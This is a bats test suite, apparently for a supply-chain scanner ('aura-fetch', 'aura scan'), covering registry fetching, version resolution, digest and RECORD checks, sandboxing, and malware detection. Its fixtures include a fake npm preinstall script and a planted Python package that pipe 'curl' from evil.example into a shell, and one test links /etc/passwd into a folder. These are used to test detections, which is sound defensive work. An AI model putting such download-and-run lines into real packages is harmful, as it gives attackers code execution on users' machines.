#!/usr/bin/env bats
# 06-registry.bats: pypi:/npm:/URL targets, requirement files, folders of archives and
# site-packages, against a fixture registry served on 127.0.0.1 (no internet needed).

load helpers/common
load fixtures/registry/server

setup_file() {
	start_server plain
	local port
	port=$(cat "$BATS_FILE_TMPDIR/plain/port")
	python3 "$FIX/make-registry.py" "$BATS_FILE_TMPDIR/plain/web" "http://127.0.0.1:$port"
	# A second server: its port is not configured, so nothing may connect to it.
	start_server other
}

teardown_file() {
	local pid
	for s in plain other tls; do
		[ -f "$BATS_FILE_TMPDIR/$s/pid" ] && pid=$(cat "$BATS_FILE_TMPDIR/$s/pid") && kill "$pid" 2>/dev/null
	done
	return 0
}

setup() {
	cd "$BATS_TEST_TMPDIR"
	PORT=$(cat "$BATS_FILE_TMPDIR/plain/port")
	OTHER=$(cat "$BATS_FILE_TMPDIR/other/port")
	BASE="http://127.0.0.1:$PORT"
	INDEX="$BASE/simple/"
	export XDG_CACHE_HOME="$BATS_TEST_TMPDIR/cache"
	LOG="$BATS_FILE_TMPDIR/plain/requests.log"
}


@test "pypi:NAME is the newest release by PEP 440 that is not yanked or a pre-release; sdist and wheels" {
	run -0 --separate-stderr aura-fetch --index-url "$INDEX" pypi:Demo_Pkg
	# 1.11 is yanked, 2.0rc1 and 2.0.dev3 are pre-releases, 1.10 > 1.9; the egg is not scanned.
	assert_equal "$(fields)" "artifact Demo_Pkg 1.10 demo_pkg-1.10.tar.gz
artifact Demo_Pkg 1.10 demo_pkg-1.10-py3-none-any.whl"
	assert_jq "${lines[0]}" '.ecosystem == "pypi" and .kind == "archive" and .format == "tar.gz" and .target == "pypi:Demo_Pkg"
		and .registry.normalized_name == "demo-pkg" and .registry.project == "Demo_Pkg" and .registry.api == "json"'
	# The id is the sha256 of the bytes, which are kept in the cache under that name.
	sha=$(jq -r .sha256 <<<"${lines[0]}")
	assert_equal "$(sha256sum "$(jq -r .path <<<"${lines[0]}")" | cut -d' ' -f1)" "$sha"
	assert_jq "${lines[0]}" ".id == \"$sha\" and (.path | endswith(\"/aura/sha256/$sha\"))"
	run -0 --separate-stderr aura-fetch --index-url "$INDEX" --all-files pypi:demo-pkg
	assert_equal "${#lines[@]}" 3
	run -0 --separate-stderr aura-fetch --index-url "$INDEX" --only wheel pypi:demo-pkg
	assert_equal "$(fields)" "artifact demo-pkg 1.10 demo_pkg-1.10-py3-none-any.whl"
	run -0 --separate-stderr aura-fetch --index-url "$INDEX" --pre --only sdist pypi:demo-pkg
	assert_equal "$(fields)" "artifact demo-pkg 2.0rc1 demo_pkg-2.0rc1.tar.gz"
}

@test "pins and ranges: ==, >=/<, ~=, a yanked release only when pinned, names normalised (PEP 503)" {
	run -0 --separate-stderr aura-fetch --index-url "$INDEX" --only sdist 'pypi:DEMO.pkg==1.0' \
		'pypi:demo_pkg>=1.0,<1.10' 'pypi:demo-pkg~=1.0' 'pypi:demo-pkg==1.11' 'pypi:demo-pkg==1.*' \
		'pypi:demo-pkg!=1.10,!=1.9.*' 'pypi:demo-pkg===1.9' 'pypi:demo-pkg<=1.0.0' 'pypi:demo-pkg>1.10'
	assert_equal "$(fields)" "artifact DEMO.pkg 1.0 demo_pkg-1.0.tar.gz
artifact demo_pkg 1.9 demo_pkg-1.9.tar.gz
artifact demo-pkg 1.10 demo_pkg-1.10.tar.gz
artifact demo-pkg 1.11 demo_pkg-1.11.tar.gz
artifact demo-pkg 1.10 demo_pkg-1.10.tar.gz
artifact demo-pkg 1.0 demo_pkg-1.0.tar.gz
artifact demo-pkg 1.9 demo_pkg-1.9.tar.gz
artifact demo-pkg 1.0 demo_pkg-1.0.tar.gz
artifact demo-pkg 2.0rc1 demo_pkg-2.0rc1.tar.gz"
	assert_jq "${lines[3]}" '.registry.yanked == true and .registry.yanked_reason == "broken"'
}

@test "PEP 440 ordering: epochs first, post-releases after, a dev release is a pre-release" {
	run -0 --separate-stderr aura-fetch --index-url "$INDEX" pypi:ordering 'pypi:ordering<1!0' \
		'pypi:ordering>1.0' 'pypi:ordering<1!0,>1.0.post1'
	assert_equal "$(fields)" "artifact ordering 1!0.5 ordering-1!0.5.tar.gz
artifact ordering 1.0.post1 ordering-1.0.post1.tar.gz
artifact ordering 1!0.5 ordering-1!0.5.tar.gz
artifact ordering 1.0.post2.dev1 ordering-1.0.post2.dev1.tar.gz"
}

@test "redirects are followed to configured hosts only, and not forever" {
	run -0 --separate-stderr aura-fetch "$BASE/go/evil.tar.gz" "$BASE/go/loop.tar.gz" "$BASE/go/away.tar.gz"
	assert_equal "$(printf '%s\n' "$output" | jq -r '.type + " " + (.name // .message)' | sed 's/127.0.0.1:[0-9]*/HOST/g')" \
"artifact evil.tar.gz
error http://HOST/go/loop.tar.gz: more than 5 redirects
error HOST is not a configured host (--index-url, --registry, --allow-host) (redirected there)"
}

@test "registry metadata is attached to the artifact for analyze" {
	run -0 --separate-stderr aura-fetch --index-url "$INDEX" 'pypi:evil==1.0'
	assert_jq "$output" '.registry | .summary == "evil: a fixture" and .author == "Fixture Author"
		and .author_email == "author@example.org" and .upload_time == "2024-01-10T00:00:00Z"
		and .first_upload_time == "2024-01-10T00:00:00Z" and .releases == 1
		and .project_urls.Source == "https://example.org/evil" and .requires_dist == ["requests>=2"]
		and .yanked == false and .digest_verified == true and .packagetype == "sdist"'
}

@test "an index with only the simple API: PEP 503 HTML (relative links, yanked) and PEP 691 JSON" {
	run -0 --separate-stderr aura-fetch --index-url "$INDEX" pypi:simpleonly 'pypi:simpleonly<0.2' pypi:pep691
	assert_equal "$(fields)" "artifact simpleonly 0.2 simpleonly-0.2.tar.gz
artifact simpleonly 0.1 simpleonly-0.1.tar.gz
artifact pep691 3.0 pep691-3.0.tar.gz"
	assert_jq "${lines[0]}" '.registry.api == "simple-html" and .registry.digest_verified'
	assert_jq "${lines[2]}" '.registry.api == "simple-json" and .registry.upload_time == "2024-02-01T00:00:00Z"'
}

@test "a file that does not match its published digest is refused with a DigestMismatch hit; the rest goes on" {
	run -0 --separate-stderr aura-fetch --index-url "$INDEX" pypi:tampered 'pypi:evil==1.0'
	assert_equal "$(printf '%s\n' "$output" | jq -r '.type + ":" + (.detection // .name // "")' | tr '\n' ' ')" \
		'hit:DigestMismatch error: artifact:evil '
	assert_jq "${lines[0]}" '.severity == "high" and .artifact == "pypi:tampered" and (.evidence | test("published sha256 [0-9a-f]{64}, downloaded [0-9a-f]{64}"))'
	[[ $stderr == *"digest mismatch, refused"* ]] || fail "stderr: $stderr"
	# Nothing of it stays in the cache.
	assert_equal "$(ls "$XDG_CACHE_HOME/aura/tmp")" ""
	run ! grep -rl 'name="tampered"' "$XDG_CACHE_HOME/aura/sha256"
	# Through the driver: a verdict naming the tampering, incomplete, exit 2.
	run -2 --separate-stderr aura scan --format json --index-url "$INDEX" pypi:tampered
	assert_jq "$output" '.complete == false and .hits[0].detection == "DigestMismatch"'
}

@test "bad answers: unknown project or version, HTTP 500 (retried), garbage JSON, a huge body, a slow server" {
	: >"$LOG"
	SECONDS=0
	run -0 --separate-stderr aura-fetch --index-url "$INDEX" --timeout 2 --retries 1 --max-download 1M \
		pypi:nosuch 'pypi:demo-pkg==7.0' pypi:broken pypi:garbage pypi:huge pypi:slow 'pypi:evil==1.0'
	elapsed=$SECONDS
	assert_equal "$(printf '%s\n' "$output" | jq -r '.type + " " + (.target // .path) + " " + (.message // "")' | sed 's/127.0.0.1:[0-9]*/HOST/g')" \
"error pypi:nosuch unknown project 'nosuch' on http://HOST/simple/ (HTTP 404)
error pypi:demo-pkg==7.0 no release of 'demo-pkg' matches '==7.0' (unknown version, or all yanked)
error pypi:broken http://HOST/pypi/broken/json: HTTP 500
error pypi:garbage http://HOST/pypi/garbage/json: malformed JSON from the index: string or '}' expected near 'this'
error pypi:huge response larger than the size cap of 1048576 bytes (--max-download)
error pypi:slow http://HOST/pypi/slow/json: Operation too slow. Less than 1 bytes/sec transferred the last 2 seconds
artifact pypi:evil==1.0 "
	# 500 was tried twice (--retries 1); the slow server was abandoned, not waited for (30 s).
	assert_equal "$(grep -c '^/pypi/broken/json$' "$LOG")" 2
	[ "$elapsed" -lt 20 ] || fail "took $elapsed s"
}

@test "an unreachable index fails within a minute by default, with retries" {
	SECONDS=0
	run -0 --separate-stderr aura-fetch --index-url "http://127.0.0.1:$OTHER/simple/" pypi:x
	kill "$(cat "$BATS_FILE_TMPDIR/other/pid")"
	run -0 --separate-stderr aura-fetch --index-url "http://127.0.0.1:$OTHER/simple/" pypi:x
	[ "$SECONDS" -lt 60 ] || fail "took ${SECONDS}s, wanted under 60"
	assert_jq "$output" '.type == "error" and (.message | test("Connection refused|Couldn.t connect"))'
	[[ $stderr == *"retrying (2 of 2)"* ]] || fail "stderr: $stderr"
	start_server other	# for the tests after this one
}

@test "npm: plain and scoped names, sha512 integrity or old sha1 shasum, install scripts as facts" {
	run -0 --separate-stderr aura-fetch --registry "$BASE/" npm:leftpad npm:@acme/widget@2.0.0 npm:oldpkg \
		npm:npmtampered npm:nope npm:leftpad@9.9
	assert_equal "$(printf '%s\n' "$output" | jq -r '[.type, .name // .detection // "-", .version // "-", .registry.digest // "-"] | join(" ")')" \
"artifact leftpad 1.0.0 sha512
artifact @acme/widget 2.0.0 sha512
artifact oldpkg 0.1.0 sha1
hit DigestMismatch - -
error - - -
error - - -
error - - -"
	assert_jq "${lines[1]}" '.ecosystem == "npm" and .format == "tar.gz" and .registry.install_scripts == {"preinstall": "curl -s http://evil.example/x.sh | sh"}'
	assert_jq "${lines[0]}" '.registry.install_scripts == {} and .registry.first_upload_time == "2024-03-01T00:00:00Z"'
	[[ ${lines[5]} == *"unknown package 'nope'"* ]] || fail "line 5: ${lines[5]}"
	[[ ${lines[6]} == *"no version of 'leftpad' matches '9.9'"* ]] || fail "line 6: ${lines[6]}"
}

@test "https/http archive URLs, verified when the URL carries #sha256=" {
	sha=$(sha256sum "$BATS_FILE_TMPDIR/plain/web/packages/evil-1.0.tar.gz" | cut -d' ' -f1)
	run -0 --separate-stderr aura-fetch "$BASE/packages/evil-1.0.tar.gz#sha256=$sha" \
		"$BASE/packages/evil-1.0.tar.gz#sha256=$(printf '0%.0s' $(seq 64))"
	assert_equal "$(fields | head -1)" "artifact evil 1.0 evil-1.0.tar.gz"
	assert_jq "${lines[0]}" ".ecosystem == \"url\" and .sha256 == \"$sha\""
	assert_jq "${lines[1]}" '.type == "hit" and .detection == "DigestMismatch"'
}

@test "the cache: a second run reads nothing from the network, --offline works, a damaged copy is never used" {
	run -0 --separate-stderr aura-fetch --index-url "$INDEX" 'pypi:evil==1.0'
	first=$output
	: >"$LOG"
	run -0 --separate-stderr aura-fetch --index-url "$INDEX" --offline 'pypi:evil==1.0'
	assert_equal "$output" "$first"
	assert_equal "$(wc -l <"$LOG")" 0
	# Damage the cached file: offline it is refused, online it is fetched again.
	path=$(jq -r .path <<<"$first")
	echo 'import os; os.system("x")' >"$path"
	run -0 --separate-stderr aura-fetch --index-url "$INDEX" --offline 'pypi:evil==1.0'
	assert_jq "$output" '.type == "error" and (.message | test("not in the cache"))'
	[[ $stderr == *"does not match its digest; discarded"* ]] || fail "stderr: $stderr"
	run -0 --separate-stderr aura-fetch --index-url "$INDEX" 'pypi:evil==1.0'
	assert_equal "$output" "$first"
	# Offline, a project never fetched is an error, not a silent skip.
	run -0 --separate-stderr aura-fetch --index-url "$INDEX" --offline pypi:simpleonly
	assert_jq "$output" '.type == "error" and (.message | test("--offline"))'
}

@test "TLS is verified: a private CA with --cacert, refused without it" {
	openssl req -x509 -newkey rsa:2048 -nodes -days 1 -subj /CN=127.0.0.1 \
		-addext subjectAltName=IP:127.0.0.1 -keyout key.pem -out cert.pem 2>/dev/null
	start_server tls "$PWD/cert.pem" "$PWD/key.pem"
	tport=$(cat "$BATS_FILE_TMPDIR/tls/port")
	cp -r "$BATS_FILE_TMPDIR/plain/web/packages" "$BATS_FILE_TMPDIR/tls/web/"
	url="https://127.0.0.1:$tport/packages/evil-1.0.tar.gz"
	run -0 --separate-stderr aura-fetch --retries 0 "$url"
	assert_jq "$output" '.type == "error" and (.message | test("certificate"))'
	run -0 --separate-stderr aura-fetch --cacert cert.pem "$url"
	assert_jq "$output" '.type == "artifact" and .name == "evil"'
}

@test "sandbox: connect only to the configured hosts' ports, write only in the cache, never execute" {
	[ "$(landlock_abi)" -ge 4 ] || fail "this kernel has no Landlock network rules (ABI < 4)"
	run --separate-stderr aura-fetch --index-url "$INDEX" --sandbox-selftest "connect:$PORT" pypi:x
	[ "$status" -eq 0 ] || fail "connect to the index refused: $stderr"
	run --separate-stderr aura-fetch --index-url "$INDEX" --sandbox-selftest "connect:$OTHER" pypi:x
	[ "$status" -eq 3 ] || fail "connect to another port allowed (exit $status): $stderr"
	[[ $stderr == *"refused: Permission denied"* ]] || fail "stderr: $stderr"
	run --separate-stderr aura-fetch --offline --index-url "$INDEX" --sandbox-selftest "connect:$PORT" pypi:x
	[ "$status" -eq 3 ] || fail "--offline: connect to the index allowed (exit $status): $stderr"
	run --separate-stderr env AURA_ALLOW_NO_SANDBOX=1 aura-fetch --no-sandbox --index-url "$INDEX" --sandbox-selftest "connect:$OTHER" pypi:x
	[ "$status" -eq 0 ] || fail "the other server is not listening: the refusal above proves nothing"
	# Writes: in the cache yes, elsewhere no (Landlock), and no program runs (seccomp).
	run --separate-stderr aura-fetch --index-url "$INDEX" --sandbox-selftest "write:$XDG_CACHE_HOME/aura/tmp/x" pypi:x
	[ "$status" -eq 0 ] || fail "write in the cache refused: $stderr"
	run --separate-stderr aura-fetch --index-url "$INDEX" --sandbox-selftest "write:$BATS_TEST_TMPDIR/outside" pypi:x
	[ "$status" -eq 3 ] && [ ! -e "$BATS_TEST_TMPDIR/outside" ] || fail "write outside the cache allowed: $stderr"
	run --separate-stderr aura-fetch --index-url "$INDEX" --sandbox-selftest exec pypi:x
	assert_failure 159
	# A host that was not configured is refused before any connection, also in a redirect.
	printf 'http://127.0.0.1:%s/x.tar.gz\n' "$OTHER" >requirements.txt
	run -0 --separate-stderr aura-fetch --index-url "$INDEX" requirements.txt
	assert_jq "$output" '.type == "error" and (.message | test("is not a configured host"))'
}

@test "requirements.txt: pins, ranges, -r and -c includes, --hash, URLs, local paths; a bad line is an error with its line number" {
	good=$(sha256sum "$BATS_FILE_TMPDIR/plain/web/packages/demo_pkg-1.0.tar.gz" | cut -d' ' -f1)
	cp "$BATS_FILE_TMPDIR/plain/web/packages/simpleonly-0.1.tar.gz" local-0.1.tar.gz
	cat >requirements.txt <<-EOF
	# the project's pins
	Demo-Pkg==1.0 \\
	    --hash=sha256:$good
	-r more.txt
	-c constraints.txt
	simpleonly>=0.1
	this is not a requirement
	./local-0.1.tar.gz
	$BASE/packages/pep691-3.0.tar.gz
	EOF
	echo 'evil==1.0  # pinned' >more.txt
	echo 'simpleonly<0.2' >constraints.txt
	run -0 --separate-stderr aura-fetch --index-url "$INDEX" --only sdist requirements.txt
	assert_equal "$(fields | sed 's/127.0.0.1:[0-9]*/HOST/g')" \
"error - - cannot handle this requirement line: malformed version specifier 'is not a requirement'
artifact Demo-Pkg 1.0 demo_pkg-1.0.tar.gz
artifact evil 1.0 evil-1.0.tar.gz
artifact simpleonly 0.1 simpleonly-0.1.tar.gz
artifact local 0.1 -
artifact pep691 3.0 pep691-3.0.tar.gz"
	assert_jq "${lines[0]}" '.path == "requirements.txt:7"'
	assert_jq "${lines[2]}" '.origin == "more.txt:1" and .target == "pypi:evil==1.0"'
	# A --hash that matches no published file is refused with a DigestMismatch hit, never a skip.
	printf 'demo-pkg==1.0 --hash=sha256:%s\n' "$(printf '1%.0s' $(seq 64))" >requirements.txt
	run -0 --separate-stderr aura-fetch --index-url "$INDEX" requirements.txt
	assert_equal "${#lines[@]}" 2
	assert_jq "${lines[0]}" '.type == "hit" and .detection == "DigestMismatch" and .artifact == "requirements.txt:1"'
	assert_jq "${lines[1]}" '.type == "error" and .artifact == "requirements.txt:1" and (.message | test("matching the --hash values"))'
	# The driver exits 2 for the bad line and still scans the rest.
	printf 'evil==1.0\nnot/a requirement\n' >requirements.txt
	run -2 --separate-stderr aura scan --format json --index-url "$INDEX" --only sdist requirements.txt
	assert_jq "$output" '.artifact.name == "evil" and .risk == "critical"'
}

@test "a requirements file is recognised by its content too" {
	printf '# deps\nevil==1.0\n' >deps.txt
	run -0 --separate-stderr aura-fetch --index-url "$INDEX" --only sdist deps.txt
	assert_equal "$(fields)" "artifact evil 1.0 evil-1.0.tar.gz"
	printf 'hello world\n' >notes.txt
	run -0 --separate-stderr aura-fetch notes.txt
	assert_jq "$output" '.kind == "file" and .name == "notes.txt"'
}

@test "a folder of archives is one target per archive; a package holding an archive stays one" {
	mkdir downloads
	cp "$BATS_FILE_TMPDIR"/plain/web/packages/{evil-1.0.tar.gz,simpleonly-0.1.tar.gz,demo_pkg-1.10-py3-none-any.whl} downloads/
	mkdir downloads/sub && cp "$BATS_FILE_TMPDIR/plain/web/packages/pep691-3.0.tar.gz" downloads/sub/
	echo 'print(1)' >downloads/loose.py
	ln -s /etc/passwd downloads/link
	run -0 --separate-stderr aura-fetch downloads
	assert_equal "$(printf '%s\n' "$output" | jq -r '[.kind // .type, .name // .message, .version // "-"] | join(" ")')" \
"archive demo_pkg 1.10
archive evil 1.0
error a symbolic link in a folder of archives: not scanned -
file loose.py -
archive simpleonly 0.1
archive pep691 3.0"
	rm downloads/link
	run -1 --separate-stderr aura scan --format json --fail-level high downloads
	assert_equal "$(printf '%s\n' "$output" | jq -s length)" 5
	assert_jq "$(verdict_of evil)" '.risk == "critical"'
	# With a setup.py beside it, the folder is a package and its archive part of it.
	echo 'from setuptools import setup' >downloads/setup.py
	run -0 --separate-stderr aura-fetch downloads
	assert_jq "$output" '.kind == "directory"'
}

@test "a site-packages is one target per installed distribution; RECORD hashes are checked" {
	sp=venv/lib/python3.11/site-packages
	mkdir -p "$sp/goodpkg" "$sp/goodpkg-1.0.dist-info" "$sp/badpkg" "$sp/badpkg-2.0.dist-info" \
		"$sp/oldpkg-0.5.egg-info" "$sp/oldpkg"
	echo 'x = 1' >"$sp/goodpkg/__init__.py"
	echo 'import os; os.system("curl http://evil.example/x | sh")' >"$sp/badpkg/__init__.py"
	echo 'y = 2' >"$sp/oldpkg/__init__.py"
	record() {	# dist-info file...: RECORD lines with sha256 in urlsafe base64
		for f in "${@:2}"; do
			printf '%s,sha256=%s,%s\n' "$f" "$(openssl dgst -sha256 -binary "$sp/$f" | base64 | tr '+/' '-_' | tr -d '=')" "$(stat -c %s "$sp/$f")"
		done
		printf '%s/RECORD,,\n' "$1"
	}
	printf 'Metadata-Version: 2.1\nName: goodpkg\nVersion: 1.0\n' >"$sp/goodpkg-1.0.dist-info/METADATA"
	printf 'Metadata-Version: 2.1\nName: badpkg\nVersion: 2.0\n' >"$sp/badpkg-2.0.dist-info/METADATA"
	record goodpkg-1.0.dist-info goodpkg/__init__.py goodpkg-1.0.dist-info/METADATA >"$sp/goodpkg-1.0.dist-info/RECORD"
	echo 'pass' >"$sp/badpkg/__init__.py.orig"
	cp "$sp/badpkg/__init__.py" keep && echo 'pass' >"$sp/badpkg/__init__.py"
	record badpkg-2.0.dist-info badpkg/__init__.py badpkg-2.0.dist-info/METADATA >"$sp/badpkg-2.0.dist-info/RECORD"
	cp keep "$sp/badpkg/__init__.py"	# changed after "installation"
	# Hex digests (written by some installers) are read too; a stripped .so weighs less.
	mkdir -p "$sp/hexpkg-0.1.dist-info" "$sp/hexpkg"
	echo 'z = 3' >"$sp/hexpkg/__init__.py"
	printf 'ELF' >"$sp/hexpkg/_speed.so"
	printf 'Name: hexpkg\nVersion: 0.1\n' >"$sp/hexpkg-0.1.dist-info/METADATA"
	printf 'hexpkg/__init__.py,sha256=%s,6\nhexpkg/_speed.so,sha256=%s,3\n' \
		"$(sha256sum "$sp/hexpkg/__init__.py" | cut -d' ' -f1)" "$(printf 'other' | sha256sum | cut -d' ' -f1)" \
		>"$sp/hexpkg-0.1.dist-info/RECORD"
	printf 'Metadata-Version: 1.1\nName: oldpkg\nVersion: 0.5\n' >"$sp/oldpkg-0.5.egg-info/PKG-INFO"
	printf '../oldpkg/__init__.py\nPKG-INFO\n' >"$sp/oldpkg-0.5.egg-info/installed-files.txt"
	run -0 --separate-stderr aura-fetch "$sp"
	assert_equal "$(printf '%s\n' "$output" | jq -r '[.type, .name // .detection, .version // .path] | join(" ")')" \
"hit RecordMismatch badpkg/__init__.py
artifact badpkg 2.0
artifact goodpkg 1.0
hit RecordMismatchNative hexpkg/_speed.so
artifact hexpkg 0.1
artifact oldpkg 0.5"
	assert_jq "${lines[1]}" '.ecosystem == "installed" and .format == "tar" and .installed.record_checked'
	assert_jq "${lines[5]}" '.installed.listing == "installed-files.txt or top_level.txt"'
	assert_jq "${lines[3]}" '.severity == "info"'
	# Each distribution holds exactly its own files.
	assert_equal "$(tar -tf "$(jq -r .path <<<"${lines[2]}")" | sort | tr '\n' ' ')" \
		'goodpkg-1.0.dist-info/METADATA goodpkg-1.0.dist-info/RECORD goodpkg/__init__.py '
	run -1 --separate-stderr aura scan --format json --fail-level high "$sp"
	assert_equal "$(printf '%s\n' "$output" | jq -r '.artifact.name + " " + .risk' | tr '\n' ' ')" \
		'badpkg high goodpkg info hexpkg info oldpkg info '
	assert_jq "$(verdict_of hexpkg)" '[.hits[].detection] == ["RecordMismatchNative"]'
	assert_jq "$(verdict_of badpkg)" '[.hits[].detection] | index("RecordMismatch")'
	# A source tree with its own NAME.egg-info (no version) stays one package.
	mkdir -p src/pkg src/pkg.egg-info && echo 'x = 1' >src/pkg/__init__.py
	run -0 --separate-stderr aura-fetch src
	assert_jq "$output" '.kind == "directory" and .files == 1'
}

@test "analyze: an npm install script that downloads and runs code is a finding (registry facts and package.json)" {
	# Until JavaScript is analysed an npm package without Python is incomplete (exit 2), never
	# "no findings"; its install scripts are still checked.
	run -2 --separate-stderr aura scan --format json --registry "$BASE/" npm:leftpad
	assert_jq "$output" '.complete == false and (.incomplete_reasons | index("not analysed: no Python source (JavaScript is not analysed yet; install scripts are checked)"))'
	run -1 --separate-stderr aura scan --format json --fail-level high --allow-errors --registry "$BASE/" npm:@acme/widget npm:leftpad
	assert_jq "$(verdict_of @acme/widget)" '.risk == "high" and (.hits[0] | .detection == "DownloadAndRun"
		and .path == "package/package.json" and .name == "preinstall" and .context == "install"
		and (.tags | index("npm")))'
	assert_jq "$(verdict_of leftpad)" '.hits == []'
	# The tarball's own package.json counts even when the registry document hides the script.
	run -0 --separate-stderr bash -c "aura-fetch --registry '$BASE/' npm:@acme/widget | jq -c 'if .type == \"artifact\" then .registry.install_scripts = {} else . end' | aura-unpack | aura-parse | aura-rewrite | aura-analyze"
	assert_jq "$(printf '%s\n' "$output" | grep '"type":"hit"')" '.detection == "DownloadAndRun" and .file'
}

@test "npm ranges resolve to the newest matching version (node-semver); pre-releases only with --pre; dist-tags" {
	resolve() { aura-fetch --registry "$BASE/" "npm:ranged@$1" 2>/dev/null | jq -r 'if .type == "artifact" then .version else "error: " + .message end'; }
	while IFS=';' read -r range want; do
		assert_equal "$range -> $(resolve "$range")" "$range -> $want"
	done <<-EOF
	^1.2;1.10.0
	^1.2.6;1.10.0
	~1.2.3;1.2.5
	~1.2;1.2.5
	~1;1.10.0
	^0.2;0.2.9
	^0.0.3;0.0.3
	^0;0.9.0
	>=1 <2;1.10.0
	>=1.0.0 <1.3;1.2.5
	1.x;1.10.0
	1.2.x;1.2.5
	*;3.0.0
	x;3.0.0
	>1.2 <2;1.10.0
	<=1.2;1.2.5
	<1.2;1.0.0
	1.0.0 - 1.2;1.2.5
	1.0 - 2;2.0.0
	^0.0.1 || ~1.2;1.2.5
	1.3.0-beta.1;1.3.0-beta.1
	^1.3.0-beta.0;1.10.0
	>=1.3.0-beta.0 <1.4;1.3.0-beta.1
	>=2.0.1 <3;error: no version of 'ranged' matches '>=2.0.1 <3' (pre-releases only with --pre)
	latest;2.0.0
	next;3.0.0
	2.0.0;2.0.0
	^9;error: no version of 'ranged' matches '^9' (pre-releases only with --pre)
	>=x.y;error: '>=x.y' is not a version, dist-tag or range of 'ranged'
	EOF
	run -0 --separate-stderr aura-fetch --registry "$BASE/" --pre 'npm:ranged@>=2.0.1 <3'
	assert_jq "$output" '.version == "2.1.0-rc.1"'
	# No version: the "latest" dist-tag, never the newest number.
	run -0 --separate-stderr aura-fetch --registry "$BASE/" npm:ranged
	assert_jq "$output" '.version == "2.0.0"'
}

@test "a bandersnatch mirror on disk is an index (file://): JSON API where present, else simple pages; a tampered file is refused" {
	python3 "$FIX/make-mirror.py" mirror
	M="file://$PWD/mirror/web/simple/"
	run -0 --separate-stderr aura-fetch --index-url "$M" pypi:alpha pypi:onlysimple pypi:bad-one==0.1 pypi:nope
	assert_equal "$(fields)" "artifact alpha 2.0 alpha-2.0.tar.gz
artifact onlysimple 0.5 onlysimple-0.5.tar.gz
artifact bad-one 0.1 bad_one-0.1.tar.gz
error - - unknown project 'nope' on $M (HTTP 404)"
	# The JSON API's files.pythonhosted.org URLs are read from the mirror's packages/.
	assert_jq "${lines[0]}" '(.url | startswith("file://") and contains("/mirror/web/packages/")) and .registry.api == "json" and .registry.summary == "mirror fixture"'
	assert_jq "${lines[1]}" '.registry.api == "simple-html"'
	run --separate-stderr aura scan --format json --index-url "$M" pypi:bad-one
	assert_jq "$output" '.risk == "critical"'
	# A file changed in the mirror does not match its digest.
	f=$(ls mirror/web/packages/*/*/*/alpha-2.0.tar.gz)
	printf 'x' >>"$f"
	XDG_CACHE_HOME=$PWD/fresh-cache run -0 --separate-stderr aura-fetch --index-url "$M" pypi:alpha
	assert_equal "$(fields | head -1)" "hit - - DigestMismatch"
	# Not a folder: a usage error.
	run -2 --separate-stderr aura-fetch --index-url "file://$PWD/nothing/simple/" pypi:alpha
	[[ $stderr == *"No such file or directory"* ]] || fail "stderr: $stderr"
}

@test "a mirror: links out of it are refused, and Landlock lets the stage read only the mirror, the cache and the targets' folders" {
	python3 "$FIX/make-mirror.py" mirror
	M="file://$PWD/mirror/web/simple/"
	cp "$BATS_FILE_TMPDIR/plain/web/packages/evil-1.0.tar.gz" outside.tar.gz
	sha=$(sha256sum outside.tar.gz | cut -d' ' -f1)
	mkdir -p mirror/web/simple/escape mirror/web/simple/linked
	echo "<a href=\"../../../../outside.tar.gz#sha256=$sha\">escape-1.0.tar.gz</a>" >mirror/web/simple/escape/index.html
	ln -s "$PWD/outside.tar.gz" mirror/web/packages/linked-1.0.tar.gz
	echo "<a href=\"../../packages/linked-1.0.tar.gz#sha256=$sha\">linked-1.0.tar.gz</a>" >mirror/web/simple/linked/index.html
	run -0 --separate-stderr aura-fetch --index-url "$M" pypi:escape
	assert_jq "$output" '.type == "error" and (.message | test("outside the mirror given as --index-url: refused"))'
	[ "$(landlock_abi)" -ge 1 ] || skip "no Landlock on this kernel: the symlink case is confined only by name"
	run -0 --separate-stderr aura-fetch --index-url "$M" pypi:linked
	assert_jq "$output" '.type == "error" and (.message | test("Permission denied"))'
	# Control: unconfined, the same link is read.
	AURA_ALLOW_NO_SANDBOX=1 run -0 --separate-stderr aura-fetch --no-sandbox --index-url "$M" pypi:linked
	assert_jq "$output" '.type == "artifact" and .name == "linked"'
}

@test "aura-fetch --list: every project of an index or a mirror as targets, or --latest releases; piped back in, they are fetched" {
	python3 "$FIX/make-mirror.py" mirror
	M="file://$PWD/mirror/web/simple/"
	run -0 --separate-stderr aura-fetch --index-url "$M" --list
	assert_equal "$output" "pypi:alpha
pypi:bad-one
pypi:onlysimple"
	run -0 --separate-stderr aura-fetch --index-url "$M" --list --latest
	assert_equal "$output" "pypi:alpha==2.0
pypi:bad-one==0.1
pypi:onlysimple==0.5"
	run -0 --separate-stderr aura-fetch --index-url "$M" --list --latest --pre
	assert_line -n 0 "pypi:alpha==3.0b1"
	run -0 --separate-stderr bash -c "aura-fetch --index-url '$M' --list --latest | aura-fetch --index-url '$M'"
	assert_equal "$(fields)" "artifact alpha 2.0 alpha-2.0.tar.gz
artifact bad-one 0.1 bad_one-0.1.tar.gz
artifact onlysimple 0.5 onlysimple-0.5.tar.gz"
	# An HTTP index: PEP 503 HTML root and PEP 691 JSON root.
	printf '<html><a href="evil/">evil</a><a href="/simple/pep691/">pep691</a><a>bad name!</a></html>' >"$BATS_FILE_TMPDIR/plain/web/simple/index.html"
	run -0 --separate-stderr aura-fetch --index-url "$INDEX" --list --latest
	assert_equal "$(printf '%s\n' "$output" | sed 's/{.*"message":"\([^"]*\)".*/error: \1/')" "pypi:evil==1.0
pypi:pep691==3.0
error: the index lists 'bad name!', which is not a project name"
	rm "$BATS_FILE_TMPDIR/plain/web/simple/index.html"
	run -2 --separate-stderr aura-fetch --latest
	run -2 --separate-stderr aura-fetch --list pypi:x
}

@test "--db: an artifact already scanned under the same Aura version, rules and limits is not scanned again; --rescan, other rules, schema 1" {
	python3 "$FIX/make-mirror.py" mirror
	M="file://$PWD/mirror/web/simple/"
	scan() { aura scan --format json --db t.db --index-url "$M" "$@" 2>/dev/null | jq -c '[.artifact.name, .risk, (.reused | if . then "reused" else "scanned" end)] | join(" ")' -r; }
	assert_equal "$(scan pypi:bad-one pypi:alpha)" "bad-one critical scanned
alpha info scanned"
	assert_equal "$(scan pypi:bad-one pypi:alpha pypi:onlysimple)" "bad-one critical reused
alpha info reused
onlysimple info scanned"
	# What aura-fetch sends instead of the artifact: no unpacking, parsing or analysis.
	digest=$(sha256sum <"$AURA_ROOT/data/rules.yaml" | cut -d' ' -f1)
	run -0 --separate-stderr aura-fetch --index-url "$M" --db t.db --rules-digest "$digest" --limits unpack-cpu=default pypi:alpha
	assert_jq "$output" '.type == "reused" and .name == "alpha" and (.sha256 | length == 64)'
